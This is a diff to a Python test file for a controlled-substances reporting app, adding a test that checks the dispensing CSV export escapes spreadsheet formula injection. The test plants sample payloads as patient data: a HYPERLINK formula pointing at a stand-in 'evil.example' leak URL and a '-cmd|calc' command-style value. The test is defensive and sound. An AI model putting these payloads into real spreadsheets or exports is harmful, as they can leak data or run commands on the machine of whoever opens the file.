@@ -104,12 +104,12 @@ def test_a_count_page_flow_with_an_explained_discrepancy(client_as, admin):
     assert "balance equals the sum of its ledger entries" in page
 
 
-def _dispense(n):
+def _dispense(n, **patient):
     by, witness = nurse(), nurse()
     vials = receive(containers=n, by=manager())
     for vial in vials:
         draw = services.administration_record(
-            container=vial, volume_ml="0.70", patient=PatientFactory(), by=by, at=timezone.now()
+            container=vial, volume_ml="0.70", patient=PatientFactory(**patient), by=by, at=timezone.now()
         )
         services.waste_record(of_draw=draw, volume_ml="0.10", witness=witness, by=by, at=timezone.now())
 
@@ -141,6 +141,21 @@ def test_the_dispensing_csv_has_the_1304_22_content(client_as, admin):
     assert record["Initials"]
     assert "50 mg/mL" in record["Drug, form, strength"]
     assert AuditEvent.objects.filter(action="controlled_substances.report.dispensing", verb="export").exists()
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak","Open chart")'
+
+
+def test_csv_formula_injection_a_patient_named_as_a_formula_is_text_in_the_dispensing_csv(client_as, admin):
+    # A name typed as a spreadsheet formula would run when the manager opens the export.
+    _dispense(1, legal_last_name=FORMULA, email="f@example.com", address_line1="+1 Formula Way", city="-cmd|calc")
+    response = client_as(admin).get(reverse("controlled_substances:report-dispensing"), {"format": "csv"})
+    rows = list(csv.reader(io.StringIO(response.content.decode())))
+    record = dict(zip(rows[1], rows[2], strict=True))
+    assert record["Patient"].startswith("'" + FORMULA)
+    cells = [cell for row in rows for cell in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
+    assert not [c for c in cells if c.startswith("-") and not c.lstrip("-").replace(".", "").isdigit()]
 
 
 @pytest.mark.parametrize("name", ["report-balances", "report-waste", "report-discrepancies"])
